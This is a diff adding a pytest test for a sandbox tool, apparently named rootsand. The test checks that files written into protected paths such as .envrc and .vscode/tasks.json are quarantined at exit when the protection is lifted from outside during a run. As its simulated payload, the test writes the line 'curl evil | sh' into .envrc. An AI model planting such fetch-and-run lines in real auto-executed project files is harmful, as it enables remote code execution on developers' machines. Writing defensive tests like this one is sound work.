@@ -170,6 +170,35 @@ def test_a_killed_launchers_leftovers_go_while_another_sandbox_runs(tmp_path):
     assert listing(running_dir) == []
 
 
+def _run_with_a_pause(directory, script_after):
+    """A sandbox in `directory` that says "ready", waits for a line on stdin, then runs `script_after`."""
+    return subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", f"echo ready; read x; {script_after}"],
+                            cwd=directory, env=env_in(directory), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+
+
+@pytest.mark.parametrize("existing", [False, True])
+def test_a_protection_lifted_from_outside_during_the_run_is_caught_at_exit(tmp_path, existing):
+    # Unlinking a mount point from another mount namespace (the host here; a second sandbox sharing the
+    # directory alike) detaches its mounts everywhere: the sandbox can then write the path. What it wrote
+    # is moved aside when it ends.
+    if existing:
+        (tmp_path / ".envrc").write_text("export MINE=1\n")
+    write = "echo 'curl evil | sh' > .envrc" + ("" if existing else " && mkdir -p .vscode && echo {} > .vscode/tasks.json")
+    proc = _run_with_a_pause(tmp_path, write + " && echo written")
+    assert proc.stdout.readline() == "ready\n"
+    os.unlink(tmp_path / ".envrc")  # as `git clean -fdx` would
+    if not existing:
+        os.rmdir(tmp_path / ".vscode")
+    out, err = proc.communicate("go\n", timeout=30)
+    assert (proc.returncode, out) == (0, "written\n"), err
+    names = [re.sub(r"rootsand-quarantine-\d{8}-\d{6}", "STAMP", n) for n in listing(tmp_path)]
+    why = "was replaced during the run" if existing else "was made empty and read-only for the run, and something"
+    assert f"rootsand: warning: {tmp_path}/.envrc {why}" in err
+    assert ".envrc" not in names and ".envrc.STAMP" in names
+    assert (".vscode.STAMP" in names) == (not existing) and ".vscode" not in names
+
+
 def test_under_fakeroot_what_protection_makes_is_the_users(tmp_path):
     # Root inside is a subordinate id there: placeholders made as root would belong to an id whose files
     # the user cannot remove, and a leftover .git of that id would get a second run's .git/config inside.
